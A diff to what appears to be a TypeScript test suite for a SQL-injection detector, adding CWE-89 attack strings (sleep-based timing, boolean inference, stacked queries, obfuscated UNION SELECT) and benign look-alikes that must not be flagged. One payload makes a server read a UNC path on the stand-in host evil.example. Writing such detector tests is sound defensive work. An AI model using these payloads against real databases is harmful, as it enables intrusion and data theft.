@@ -38,6 +38,21 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     '1 or 1/0',
     'select/**/1',
   ],
+  'a name that goes on as SQL to its end (CWE-89)': [
+    'id rlike sleep(5)',
+    'id*(select 1)',
+    'iif(1=1,id,name)',
+    'version()::int',
+    '(ascii(substr(user(),1,1))>64)*7',
+  ],
+  'what one server reads (CWE-89)': [
+    "'; restore filelistonly from disk='\\\\evil.example\\x'--",
+    "1';call case when (1=1) then crypt_key('AES',null) end--",
+    "1');begin user_lock.sleep(5); end;--",
+    '12dunion select 1,2,3--',
+    '*/(select 1)/*',
+    "1%' %u%n%i%o%n %s%e%l%e%c%t %1%,%2%-%-",
+  ],
   'a keyword that comments cut (CWE-89)': [
     '1 un/**/ion sel/**/ect 1,2',
     "' u/**/nion s/*x*/el/**/ect a fr/**/om b",
@@ -143,6 +158,11 @@ describe.each(Object.entries(ATTACKS))('%s', (_name, texts) => {
 })
 
 const HARMLESS: readonly string[] = [
+  'r = sleep(5)',
+  'version()::next',
+  'country = (select country)',
+  '*/15 9-17 * * 1-5',
+  'The 12dunion',
   'use kebab-case when multiple words are used',
   'fixed a leak; close-on-exec (@ann)',
   'x = 1;\n  if (new_local == 0)',
